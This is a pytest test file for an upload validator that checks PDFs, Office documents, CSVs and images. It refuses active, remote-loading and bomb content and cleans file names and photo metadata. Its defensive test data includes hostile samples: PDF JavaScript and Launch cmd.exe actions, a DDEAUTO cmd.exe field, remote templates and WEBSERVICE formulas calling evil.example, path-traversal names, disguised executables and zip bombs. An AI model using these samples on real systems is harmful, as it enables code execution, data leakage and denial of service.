"""What may be kept of an uploaded file, and what is refused before it can do harm."""

import hashlib
import io
import random
import re
import struct
import time
import zipfile
import zlib

import pytest
import xlsxwriter
from hypothesis import example, given
from hypothesis import strategies as st
from PIL import Image, ImageFile, PngImagePlugin

from matcher.cases import uploads
from matcher.cases.inside import images as inside_images
from matcher.cases.inside import office as inside_office
from matcher.cases.inside import pdf as inside_pdf
from matcher.ground.errors import Invalid
from tests.cost import assert_linear
from tests.edge_inputs import EDGE_INPUTS

PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
TYPES = "application/vnd.openxmlformats-officedocument"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = {"xlsx": "xl/workbook.xml", "docx": "word/document.xml", "pptx": "ppt/presentation.xml"}


def code_of(name: str, content: bytes) -> str:
    with pytest.raises(Invalid) as refused:
        uploads.check(name, content)
    assert set(refused.value.facts) == {"file"}
    return refused.value.facts["file"]


def outcome(name: str, content: bytes) -> uploads.Checked | str:
    """What is kept, or the code of the refusal; any other exception fails the test."""
    try:
        return uploads.check(name, content)
    except Invalid as refused:
        return str(refused.facts["file"])


def image(kind: str = "PNG", size: tuple[int, int] = (6, 4), mode: str = "RGB", **options: object) -> bytes:
    target = io.BytesIO()
    picture = Image.new(mode, size)
    if mode == "RGB":
        picture.putpixel((0, 0), (255, 0, 0))
    picture.save(target, kind, **options)
    return target.getvalue()


def opened(content: bytes) -> Image.Image:
    picture = Image.open(io.BytesIO(content))
    picture.load()
    return picture


def workbook() -> bytes:
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target)
    book.add_worksheet("見積").write_row(0, 0, ["品名", "金額"])
    book.close()
    return target.getvalue()


def types_part(extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{extra}</Types>'
    )


def relations_part(kind: str, target: str) -> str:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def field_part(*instruction: str) -> str:
    """A part of a Word document with one field, its instruction in pieces."""
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in instruction)
    return (
        '<w:ftr xmlns:w="w"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{pieces}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:ftr>'
    )


def simple_field(instruction: str) -> str:
    return f'<w:ftr xmlns:w="w"><w:p><w:fldSimple w:instr="{instruction}"/></w:p></w:ftr>'


def archive(*members: tuple[str | zipfile.ZipInfo, str | bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in members:
            file.writestr(name, data)
    return target.getvalue()


def office(extension: str = "docx", *members: tuple[str, str | bytes], types: str = "") -> bytes:
    return archive(
        ("[Content_Types].xml", types_part(types)), (MAIN[extension], "<document>本文</document>"), *members
    )


# ── What may be kept ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("見積.pdf", PDF),
        ("見積.xlsx", workbook()),
        ("仕様.docx", office("docx")),
        ("説明.pptx", office("pptx")),
        ("名簿.csv", '名称,地区\r\n㈱髙﨑商店,"中\t央"\n'.encode()),
        ("名簿.csv", "名称,地区\r\n".encode("utf-8-sig")),
        ("名簿.csv", "㈱髙﨑商店,ﾊﾝｶｸ,表示\r\n".encode("cp932")),
    ],
)
def test_a_document_is_kept_byte_by_byte(name: str, content: bytes) -> None:
    kept = uploads.check(name, content)
    assert kept == uploads.Checked(
        name, uploads.KINDS[name.rsplit(".", 1)[1]], content, hashlib.sha256(content).hexdigest()
    )


def test_every_kind_has_its_media_type() -> None:
    assert set(uploads.KINDS) == {"pdf", "png", "jpg", "jpeg", "xlsx", "docx", "pptx", "csv"}
    assert uploads.KINDS["jpg"] == uploads.KINDS["jpeg"] == "image/jpeg"


def test_the_size_limit_is_inclusive() -> None:
    full = b"a,b\n" * (uploads.MAX_BYTES // 4)
    assert uploads.check("a.csv", full).content == full
    assert code_of("a.csv", full + b"\n") == "file_too_large"


# ── The name ─────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("given_name", "shown"),
    [
        ("../../etc/見積.pdf", "見積.pdf"),
        ("C:\\Users\\田中\\見積.pdf", "見積.pdf"),
        ("か\u3099き.PDF", "がき.PDF"),
        ("見\x00積\x1b\u200b\u2060\ufeff\ud800書.pdf", "見積書.pdf"),
        ("請求書\u202efdp.pdf", "請求書fdp.pdf"),
        ('a<b>c:d"e|f?g*h.pdf', "a_b_c_d_e_f_g_h.pdf"),
        ("  見積 \t\n\u3000 書\u2028控 .pdf", "見積 書 控.pdf"),
        (".pdf", "ファイル.pdf"),
        ("\u200b\u3000.pdf", "ファイル.pdf"),
        ("...pdf", "ファイル.pdf"),
        ("2026.04.01 ver1.2.pdf", "2026.04.01 ver1.2.pdf"),
        ("見積.xlsx.pdf", "見積.xlsx.pdf"),
        ("葛\U000e0100飾区.pdf", "葛\U000e0100飾区.pdf"),
        ("あ" * 300 + ".pdf", "あ" * 116 + ".pdf"),
        ("あ" * 100_000 + ".pdf", "あ" * 116 + ".pdf"),
    ],
)
def test_the_name_is_cleaned(given_name: str, shown: str) -> None:
    assert uploads.check(given_name, PDF).name == shown


@pytest.mark.parametrize("text", EDGE_INPUTS)
def test_awkward_names_become_usable_ones(text: str) -> None:
    kept = outcome(f"{text}.pdf", PDF)
    if kept == "file_type":
        return
    assert isinstance(kept, uploads.Checked)
    shown = kept.name
    assert shown.endswith(".pdf")
    assert 5 <= len(shown) <= 120
    assert not re.search(r'[\x00-\x1f\x7f/\\<>:"|?*\u200b\u202e\ud800]', shown)


@pytest.mark.parametrize(
    "name",
    [
        "",
        "見積",
        "見積.",
        "見積.pdf.",
        "a/",
        "..",
        "a.txt",
        "a.svg",
        "a.html",
        "a.docm",
        "a.xlsm",
        "a.xls",
        "a.exe.pdf",
        "a.EXE .pdf",
        "a.e\u200bxe.pdf",
        "a.exe.v1.pdf",
        ".exe.pdf",
        "a.pdf.exe",
        "a.html.pdf",
        "a.zip.pdf",
        "invoice\u202exslx.exe",
        "invoice\u202efdp.exe",
        "a.pdf:stream",
        "a.pdf/b.exe",
        "a.ｐｄｆ",
        "あ" * 300 + ".exe.pdf",
        "あ" * 112 + ".exefoo.pdf",
    ],
)
def test_an_extension_that_is_unknown_or_doubled_is_refused(name: str) -> None:
    assert code_of(name, PDF) == "file_type"


# ── The first bytes ──────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("extension", uploads.KINDS)
def test_nothing_and_programs_are_refused_under_every_extension(extension: str) -> None:
    assert code_of(f"a.{extension}", b"") == "file_required"
    assert code_of(f"a.{extension}", b"MZ\x90\x00\x03\x00") == "file_type"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", image("JPEG")),
        ("a.jpg", image("PNG")),
        ("a.png", image("GIF", mode="P")),
        ("a.pdf", workbook()),
        ("a.xlsx", PDF),
        ("a.csv", PDF),
        ("a.csv", workbook()),
        ("a.xlsx", office("docx")),
        ("a.docx", workbook()),
        ("a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),  # .xls, or with a password
    ],
)
def test_the_bytes_must_be_what_the_extension_says(name: str, content: bytes) -> None:
    assert code_of(name, content) == "file_type"


@pytest.mark.parametrize(
    "content",
    [
        b"\n" + PDF,
        b"MZ" + PDF,
        b"%PDF-1.7\nno end",
        PDF + archive(("setup.exe", bytes(range(256)) * 40), ("b", b"x")).ljust(4_000, b"\0"),
        PDF + b" " * 2_048,
    ],
)
def test_a_pdf_starts_and_ends_the_file(content: bytes) -> None:
    assert code_of("a.pdf", content) == "file_type"


@pytest.mark.parametrize(("name", "kind"), [("a.png", "PNG"), ("a.jpg", "JPEG")])
def test_what_hangs_behind_an_image_is_not_kept(name: str, kind: str) -> None:
    hidden = archive(("setup.exe", b"MZ"))
    kept = uploads.check(name, image(kind) + hidden)
    assert hidden not in kept.content
    assert b"setup.exe" not in kept.content


# ── CSV ──────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"a,b\x00c", "file_type"),
        (b"a,b\x1b[31m", "file_type"),
        (b"a\x0cb", "file_type"),
        ("名称".encode("utf-16"), "file_broken"),
        ("名称,a\n".encode("utf-16"), "file_type"),
        ("名称\n".encode() + b"\xff\xfe\x81", "file_broken"),
    ],
)
def test_a_csv_is_text(content: bytes, code: str) -> None:
    assert code_of("a.csv", content) == code


# ── PDF ──────────────────────────────────────────────────────────────────────────────────────────────


def pdf(body: bytes) -> bytes:
    return PDF.replace(b"trailer", b"2 0 obj\n" + body + b"\nendobj\ntrailer")


def object_stream(body: bytes) -> bytes:
    data = zlib.compress(body)
    head = b"<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\r\n" % len(data)
    return head + data + b"\nendstream"


def packed(body: bytes) -> bytes:
    return pdf(object_stream(body))


ACTIVE = [
    b"<< /S /JavaScript /X (app.alert) >>",
    b"<</S/JavaScript/JS(app.alert)>>",
    b"<< /S /J#61vaScript >>",
    b"<< /S /#4a#41vaScript /#4A#53 (x) >>",
    b"<< /S /Rendition /JS 5 0 R >>",
    b"<< /JS\n(app) >>",
    b"<< /JS<6170> >>",
    b"<< /#4AS%\n(app) >>",
    b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /S/L#61unch/F(cmd.exe) >>",
    b"<< /Type /EmbeddedFile >>",
    b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
    b"<< /OpenAction << /S /JavaScript /JS (x) >> >>",
]


@pytest.mark.parametrize("body", ACTIVE)
def test_a_pdf_that_runs_or_carries_something_is_refused(body: bytes) -> None:
    assert code_of("a.pdf", pdf(body)) == "file_active"
    assert code_of("a.pdf", packed(body)) == "file_active"
    assert code_of("a.pdf", packed(b"1 0 << >>") + packed(body)) == "file_active"


@pytest.mark.parametrize(
    "body",
    [
        b"<< /OpenAction [1 0 R /Fit] >>",
        b"<< /JavaScripts 1 /Launcher 2 /JSX (x) /JS1 (x) >>",
        b"(JavaScript, Launch and JS as words)",
        b"stream\n\x8f/JS\x03\xb1/JS \xff endstream",  # by chance, in a scanned page
    ],
)
def test_a_pdf_with_like_sounding_names_is_kept(body: bytes) -> None:
    assert uploads.check("a.pdf", pdf(body)).content == pdf(body)


def test_packed_objects_that_cannot_be_read_do_not_hide_the_next() -> None:
    broken = pdf(b"<< /Type /ObjStm >>\nstream\nno zlib\nendstream")
    assert uploads.check("a.pdf", broken).content == broken
    assert code_of("a.pdf", broken + packed(ACTIVE[0])) == "file_active"
    for open_end in (b"<< /Type /ObjStm >>", b"<< /Type /ObjStm >> stream\n"):
        assert uploads.check("a.pdf", pdf(open_end)).content == pdf(open_end)


def test_packed_objects_are_unpacked_to_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inside_pdf, "MAX_OBJECTS", 10_000)
    assert uploads.check("a.pdf", packed(bytes(10_000))).media_type == "application/pdf"
    assert code_of("a.pdf", packed(bytes(10_001))) == "file_bomb"
    assert code_of("a.pdf", packed(bytes(6_000)) + packed(bytes(6_000))) == "file_bomb"
    # What is unpacked in vain was unpacked all the same.
    damaged = packed(bytes(6_000)).replace(zlib.compress(bytes(6_000))[-4:], b"XXXX")
    assert uploads.check("a.pdf", damaged).content == damaged
    assert code_of("a.pdf", damaged * 2) == "file_bomb"
    assert code_of("a.pdf", b"%PDF" + b"/ObjStm stream\nx\n" * 100 + PDF) == "file_bomb"


def ended_within(body: bytes) -> bytes:
    """Packed so that the word "endstream" stands in it as it is, and ``body`` behind."""
    plain, rest = zlib.compressobj(0), zlib.compressobj(9, wbits=-15)
    front = plain.compress(b"endstream ") + plain.flush(zlib.Z_FULL_FLUSH)
    return front + rest.compress(body * 9) + rest.flush() + b"\nendstream"


@pytest.mark.parametrize(
    "disguised",
    [
        packed(ACTIVE[0] * 900).replace(zlib.compress(ACTIVE[0] * 900)[-4:], b"XXXX"),
        pdf(b"% /ObjStm stream\n") + packed(ACTIVE[0]),
        pdf(b"/ObjStm >> stream\n" + ended_within(ACTIVE[0])),
    ],
    ids=["damaged at its end", "behind what looks like one", "with its end within"],
)
def test_packed_objects_are_read_as_readers_read_them(disguised: bytes) -> None:
    assert code_of("a.pdf", disguised) == "file_active"


class Counted:
    """A pattern that notes how many bytes it goes through."""

    def __init__(self, pattern: re.Pattern[bytes]) -> None:
        self.pattern, self.bytes = pattern, 0

    def search(self, content: bytes) -> re.Match[bytes] | None:
        self.bytes += len(content)
        return self.pattern.search(content)


@pytest.mark.parametrize("body", [b"/", b"/J", b"/JS ", b"/#4a", b"/#4"])
def test_no_more_of_a_pdf_is_gone_through_than_a_document_has(
    monkeypatch: pytest.MonkeyPatch, body: bytes
) -> None:
    searched = Counted(inside_pdf._ACTIVE_IN_PDF)
    monkeypatch.setattr(inside_pdf, "_ACTIVE_IN_PDF", searched)
    content = packed(body * (40_000_000 // len(body)))
    assert code_of("a.pdf", content) == "file_bomb"
    assert searched.bytes == len(content)  # what it unpacks to is not even looked at
    # Two hundred pages of a tagged document, four thousand bytes of objects each.
    objects = b"<< /Type /StructElem /S /P /P 7 0 R /K [0] >> " * 90
    pages = pdf(object_stream(objects) * 200)
    assert uploads.check("a.pdf", pages).content == pages


def test_a_pdf_of_very_many_streams_is_refused() -> None:
    one = b"/ObjStm stream\n" + zlib.compress(b"")
    kept = pdf(one * inside_pdf.MAX_STREAMS)
    assert uploads.check("a.pdf", kept).content == kept
    assert code_of("a.pdf", pdf(one * (inside_pdf.MAX_STREAMS + 1))) == "file_bomb"


# ── Office ───────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def no_unpacking(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Records what is unpacked of an archive, instead of unpacking it."""
    unpacked: list[str] = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, name, *args, **kw: unpacked.append(str(name)))
    return unpacked


def zeros(size: int) -> bytes:
    return archive(("[Content_Types].xml", types_part()), (MAIN["xlsx"], "<a/>"), ("xl/a.bin", bytes(size)))


@pytest.fixture(scope="module")
def bombs() -> dict[str, bytes]:
    big = bytes(range(256)) * 4096  # a mebibyte that packs well, though not 200 times
    return {
        "one member": zeros(uploads.MAX_UNPACKED + 1),
        "in sum": office("xlsx", *((f"xl/{n}.bin", big) for n in range(51))),
        "ratio": zeros(1024 * 1024 + 1),
        "members": office("xlsx", *((f"xl/{n}.xml", "<a/>") for n in range(1_999))),
        "nested": office("xlsx", ("xl/inner.zip", archive(("a", "b")))),
        "encrypted": encrypted(),
    }


def encrypted() -> bytes:
    """A workbook whose members say that they need a password."""
    content = bytearray(office("xlsx"))
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(sign), bytes(content)):
            content[found.start() + offset] |= 1
    return bytes(content)


@pytest.mark.parametrize("kind", ["one member", "in sum", "ratio", "members", "nested", "encrypted"])
def test_a_zip_bomb_is_refused_unopened(bombs: dict[str, bytes], no_unpacking: list[str], kind: str) -> None:
    assert len(bombs[kind]) < uploads.MAX_BYTES
    assert code_of("a.xlsx", bombs[kind]) == "file_bomb"
    assert no_unpacking == []


def test_what_is_just_within_the_limits_is_kept() -> None:
    for content in (zeros(1024 * 1024), office("xlsx", *((f"xl/{n}.xml", "<a/>") for n in range(1_998)))):
        assert uploads.check("a.xlsx", content).content == content


def test_an_archive_under_another_name_is_nested_all_the_same() -> None:
    inner = archive(("a", "b"))
    assert code_of("a.docx", office("docx", ("word/media/image1.png", inner))) == "file_bomb"


def test_a_long_document_is_read_to_its_end_in_pieces(monkeypatch: pytest.MonkeyPatch) -> None:
    pick = random.Random(1)
    text = "".join(f"<w:p><w:r><w:t>第{n}条 {pick.random()}</w:t></w:r></w:p>" for n in range(220_000))
    long = f'<w:document xmlns:w="w">{text}%s</w:document>'
    assert len(long.encode()) > 10 * 1024 * 1024
    content = archive(
        ("[Content_Types].xml", types_part()), (MAIN["docx"], long % simple_field("PAGE"))
    )  # fmt: skip
    assert uploads.check("a.docx", content).content == content
    hidden = archive(("[Content_Types].xml", types_part()), (MAIN["docx"], long % simple_field("dde excel")))
    assert code_of("a.docx", hidden) == "file_active"


def test_an_instruction_that_is_cut_between_two_pieces_is_read_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    data = field_part("ddeauto excel").encode()
    for size in range(1, len(data)):
        monkeypatch.setattr(inside_office, "_PIECE", size)
        assert code_of("a.docx", office("docx", ("word/a.xml", data))) == "file_active"


def test_an_instruction_of_very_many_pieces_is_not_put_together() -> None:
    started = time.monotonic()
    budget = inside_office._Budget(inside_office.MAX_ELEMENTS, inside_office.MAX_LOOKED_INTO)
    inside_office._check_content(field_part(*["a" * 10] * 300_000).encode(), budget)
    assert time.monotonic() - started < 10  # a second; put together piece by piece it takes minutes


@pytest.mark.parametrize(
    ("limit", "name", "part"),
    [
        ("MAX_ELEMENTS", "word/x%d.xml", "<w>fld" + "<a/>" * 600 + "</w>"),
        ("MAX_ELEMENTS", "word/_rels/x%d.rels", "<w>" + "<a/>" * 600 + "</w>"),
        ("MAX_LOOKED_INTO", "word/x%d.xml", "<w>" + "<f/>" * 600 + "</w>"),
        ("MAX_LOOKED_INTO", "word/x%d.vml", "<w>" + "<a/>" * 600 + "</w>"),
    ],
)
def test_all_parts_together_have_a_limit_of_elements(
    monkeypatch: pytest.MonkeyPatch, limit: str, name: str, part: str
) -> None:
    monkeypatch.setattr(inside_office, limit, 1_000)
    one, two = (office("docx", *((name % n, part) for n in range(count))) for count in (1, 2))
    assert uploads.check("a.docx", one).content == one
    assert code_of("a.docx", two) == "file_bomb"


@pytest.mark.parametrize(
    "part",
    [
        "<a>" * 1_001 + "</a>" * 1_001,
        "<w>" + "".join(f"<a{n}/>" for n in range(21_000)) + "</w>",
        "<w " + " ".join(f'a{n}=""' for n in range(21_000)) + "/>",
        "<w>" + "".join(f'<a xmlns:p{n}="x"/>' for n in range(21_000)) + "</w>",
        f'<w xmlns="{"x" * 301}"/>',
        f"<w><!--{'x' * 1_300_000}--></w>".replace("xx", "x1x", 9_000),
        "<w><f>" + "a<b/>" * 30_000 + "</f></w>",
    ],
    ids=["depth", "elements", "attributes", "prefixes", "namespace", "tag", "pieces of a text"],
)
def test_what_the_parser_would_keep_in_memory_has_a_limit(part: str) -> None:
    pick = random.Random(4)
    noise = "".join(pick.choices("0123456789", k=20_000))  # or it would pack too well to be looked at
    assert code_of("a.docx", office("docx", ("word/a.xml", part + f"<!--{noise}-->"))) == "file_bomb"


def test_a_sheet_of_a_hundred_thousand_rows_is_taken() -> None:
    pick = random.Random(5)
    rows = "".join(
        f'<row r="{n}">'
        + "".join(f'<c r="{column}{n}"><v>{pick.randrange(1000)}</v></c>' for column in "ABCD")
        + f'<c r="E{n}"><f>A{n}*2</f></c></row>'
        for n in range(100_000)
    )
    content = office("xlsx", ("xl/worksheets/sheet1.xml", f"<worksheet>{rows}</worksheet>"))
    assert uploads.check("a.xlsx", content).content == content


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("word/vbaProject.bin", b"x"),
        ("word/VBAPROJECT.BIN", b"x"),
        ("word/vbaData.xml", "<a/>"),
        ("xl/macrosheets/sheet1.xml", "<a/>"),
        ("xl/externalLinks/externalLink1.xml", "<a/>"),
        ("xl\\externalLinks\\externalLink1.xml", "<a/>"),
        ("word/embeddings/oleObject1.bin", b"x"),
        ("ppt/embeddings/Sheet1.xlsx", b"x"),
        ("word/oleObject1.bin", b"x"),
        ("word/activeX/activeX1.xml", "<a/>"),
        ("word/media/image1.png", b"MZ\x90\x00"),
        ("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        ("customXml/item1.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
        ("customXml/item1.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")),
        ("customXml/item1.bin", "\ufeff <!DOCTYPE a><a/>".encode("utf-16-be")),
        ("word/_rels/a.rels", "<!DOCTYPE a><a/>"),
        ("word/_rels/a.rels", relations_part(f"{RELATIONS}/oleObject", "file.bin")),
        ("word/_rels/a.rels", relations_part(f"{RELATIONS}/oleOb&#106;ect", "https://evil.example/a")),
        ("word/_rels/a.rels", relations_part(f"{RELATIONS}/externalLinkPath", "b.xlsx")),
        ("word/footer1.xml", field_part(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
        ("word/comments.xml", field_part("D", "D", "E excel")),
        ("word/a.xml", field_part("PAGE").replace("PAGE", "d&#100;e excel")),
        ("word/a.xml", simple_field("dde excel")),
    ],
)
def test_a_document_with_active_parts_is_refused(name: str, data: str | bytes) -> None:
    info = zipfile.ZipInfo("x")
    info.filename = info.orig_filename = name  # as written, backslashes too
    assert code_of("a.docx", office("docx", (info, data))) == "file_active"


@pytest.mark.parametrize(
    "kind",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "application/vnd.ms-excel.sheet.MACRO&#69;nabled.main+xml",
        "application/vnd.ms-office.vbaProject",
        "application/vnd.ms-office.activeX+xml",
        f"{TYPES}.oleObject",
        f"{TYPES}.spreadsheetml.externalLink+xml",
    ],
)
def test_active_content_types_are_refused(kind: str) -> None:
    types = f'<Override PartName="/word/a.xml" ContentType="{kind}"/>'
    assert code_of("a.docx", office("docx", types=types)) == "file_active"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        *(
            ("word/_rels/a.rels", relations_part(f"{RELATIONS}/{kind}", target))
            for kind, target in [
                ("attachedTemplate", "https://evil.example/a.dotm"),
                ("attachedTemplate", "file://server/share/a.dotm"),
                ("attachedTemplate", "\\\\server\\share\\a.dotm"),
                ("attachedTemplate", "file:////server/share/a.dotm"),
                ("attachedTemplate", "file:///%5C%5Cserver/share/a.dotm"),
                ("attachedTemplate", "file:///a/..//server/share/a.dotm"),
                ("attachedTemplate", "file://localhost//server/share/a.dotm"),
                ("attachedTemplate", "%5C%5Cserver%5Cshare%5Ca.dotm"),
                ("attachedTemplate", "http:evil.example"),
                ("attachedTemplate", "share/a.dotm"),
                ("image", "https://evil.example/a.png"),
                ("image", "HTTP&#58;//evil.example/a.png"),
                ("image", "file:///C:/a.png"),
                ("frame", "https://evil.example/a.htm"),
                ("video", "https://evil.example/a.mp4"),
                ("subDocument", "b.docx"),
                ("anything", "x"),
            ]
        ),
        (
            "ppt/slides/_rels/slide1.xml.rels",
            relations_part(f"{RELATIONS}/image", "//evil.example/a.png").replace(
                ' TargetMode="External"', ""
            ),
        ),
        ("word/header1.xml", field_part(' INCLUDEPICTURE "https://evil.example/a.png" \\d')),
        ("word/header1.xml", field_part("LINK Excel.Sheet.12 a.xlsx")),
        ("word/header1.xml", simple_field("includetext a.docx")),
        (
            "word/a.vml",
            '<xml xmlns:v="v"><v:shape><v:imagedata src="https://evil.example/a"/></v:shape></xml>',
        ),
        (
            "xl/worksheets/sheet1.xml",
            '<worksheet><f>_xlfn.WEBSERVICE ("https://evil.example")</f></worksheet>',
        ),
        ("xl/worksheets/sheet1.xml", '<worksheet><f>_xlfn.IMAGE("https://evil.example")</f></worksheet>'),
        ("xl/worksheets/sheet1.xml", '<worksheet><f>W&#69;BSERVICE("https://evil.example")</f></worksheet>'),
        (
            "xl/worksheets/sheet1.xml",
            '<x:worksheet xmlns:x="x"><x:f>WEB<!-- -->SERVICE(A1)</x:f></x:worksheet>',
        ),
        ("xl/styles.xml", '<w><definedName name="a">_xlfn.IMAGE("https://evil.example")</definedName></w>'),
        ("xl/tables/table1.xml", "<t><calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula></t>"),
        ("data/sheet.bin", '<worksheet><f>WEBSERVICE("https://evil.example")</f></worksheet>'),
        ("text/main.xml", field_part(' INCLUDEPICTURE "https://evil.example/a.png"')),
    ],
)
def test_a_document_that_loads_from_elsewhere_is_refused(name: str, data: str) -> None:
    assert code_of("a.docx", office("docx", (name, data))) == "file_remote"


@pytest.mark.parametrize(
    "data",
    [
        field_part(" PAGE "),
        field_part('HYPERLINK "https://npo.example/"'),
        simple_field("LINKED"),
        "<w>fld</w>",
        "<worksheet><f>SUM(A1:A9)</f><is><t>WEBSERVICE(…) は使えません</t></is></worksheet>",
    ],
)
def test_ordinary_fields_are_everyday(data: str) -> None:
    content = office("docx", ("word/footer1.xml", data))
    assert uploads.check("a.docx", content).content == content


@pytest.mark.parametrize("brand", [b"heic", b"heix", b"hevc", b"mif1", b"avif"])
@pytest.mark.parametrize("name", ["IMG_0001.HEIC", "IMG_0001.jpg"])
def test_a_phones_picture_format_is_refused_with_the_way_to_jpeg(name: str, brand: bytes) -> None:
    assert code_of(name, b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0") == "file_heic"


def test_browsers_offer_exactly_the_kinds_that_are_taken() -> None:
    offered = uploads.ACCEPT.split(",")
    assert {one for one in offered if one.startswith(".")} == {f".{extension}" for extension in uploads.KINDS}
    assert {one for one in offered if not one.startswith(".")} == set(uploads.KINDS.values())
    assert "hei" not in uploads.ACCEPT


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("hyperlink", "https://npo.example/"),
        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
        ("attachedTemplate", "file:///Users/x/Library/My%20Templates/a.dotm"),
        ("attachedTemplate", "file://localhost/Users/x/a.dotm"),
        ("attachedTemplate", "Macintosh HD:Users:x:a.dotm"),
        ("attachedTemplate", "Normal.dotm"),
        ("attachedTemplate", "議事録のひな形.dotx"),
    ],
)
def test_links_and_ones_own_template_are_everyday(kind: str, target: str) -> None:
    content = office("docx", ("word/_rels/a.rels", relations_part(f"{RELATIONS}/{kind}", target)))
    assert uploads.check("a.docx", content).content == content


@pytest.mark.parametrize(
    "name",
    [
        "../evil.xml",
        "word/../../evil.xml",
        "/etc/passwd",
        "..\\evil.xml",
        "C:\\evil.xml",
        "WORD/document.xml",
    ],
)
def test_a_member_outside_or_there_twice_is_refused(name: str) -> None:
    info = zipfile.ZipInfo("x")
    info.filename = info.orig_filename = name
    assert code_of("a.docx", office("docx", (info, "<a/>"))) == "file_broken"


@pytest.mark.parametrize("extension", MAIN)
def test_a_document_has_its_main_parts(extension: str) -> None:
    types = ("[Content_Types].xml", types_part())
    main = (MAIN[extension], "<a/>")
    for members in ([types], [main], [("readme.txt", "hello")]):
        assert code_of(f"a.{extension}", archive(*members)) == "file_broken"
    assert uploads.check(f"a.{extension}", archive(types, main)).media_type == uploads.KINDS[extension]


def test_a_damaged_archive_is_broken() -> None:
    content = office("docx")
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        start = file.infolist()[1].header_offset
    flipped = bytearray(content)
    flipped[start + 30 + len(MAIN["docx"]) + 3] ^= 0xFF
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_LZMA) as file:
        file.writestr("[Content_Types].xml", types_part())
        file.writestr(MAIN["docx"], "<a/>")
    garbled = archive(("[Content_Types].xml", "<Types"), (MAIN["docx"], "<a/>"))
    front = archive(("setup.exe", b"MZ")) + content
    for broken in (
        content[:-30],
        content[:40],
        b"PK\x03\x04",
        bytes(flipped),
        target.getvalue(),
        garbled,
        front,
    ):
        assert code_of("a.docx", broken) == "file_broken"


# ── Images ───────────────────────────────────────────────────────────────────────────────────────────


def located(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825).update({1: "N", 2: (33.0, 35.0, 24.0), 3: "E", 4: (130.0, 24.0, 6.0)})
    return exif


@pytest.mark.parametrize(("name", "kind"), [("a.png", "PNG"), ("a.jpg", "JPEG"), ("a.JPEG", "JPEG")])
def test_where_a_photo_was_taken_is_not_kept(name: str, kind: str) -> None:
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "SecretAuthor")
    extra = (
        {"pnginfo": text} if kind == "PNG" else {"comment": b"SecretComment", "xmp": b"<x>SecretPlace</x>"}
    )
    content = image(kind, exif=located(), icc_profile=b"SecretProfile" * 20, dpi=(300, 300), **extra)
    assert dict(opened(content).getexif().get_ifd(0x8825))
    kept = uploads.check(name, content)
    assert kept.content != content
    assert kept.sha256 == hashlib.sha256(kept.content).hexdigest()
    picture = opened(kept.content)
    assert (picture.format, picture.size) == (kind, (6, 4))
    assert not dict(picture.getexif())
    assert not {"exif", "icc_profile", "xmp", "comment", "Author"} & set(picture.info)
    assert b"Secret" not in kept.content


@pytest.mark.parametrize(
    ("orientation", "size", "corner"), [(1, (6, 4), (0, 0)), (3, (6, 4), (5, 3)), (6, (4, 6), (3, 0))]
)
def test_a_photo_lies_as_it_was_seen(
    orientation: int, size: tuple[int, int], corner: tuple[int, int]
) -> None:
    picture = opened(uploads.check("a.png", image(exif=located(orientation))).content)
    assert picture.size == size
    assert picture.getpixel(corner) == (255, 0, 0)
    assert opened(uploads.check("a.jpg", image("JPEG", exif=located(orientation))).content).size == size


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")
def test_damaged_exif_costs_the_exif_only() -> None:
    content = image("JPEG", exif=b"Exif\x00\x00II*\x00\xff\xff\xff\x7fgarbage")
    assert opened(uploads.check("a.jpg", content).content).size == (6, 4)


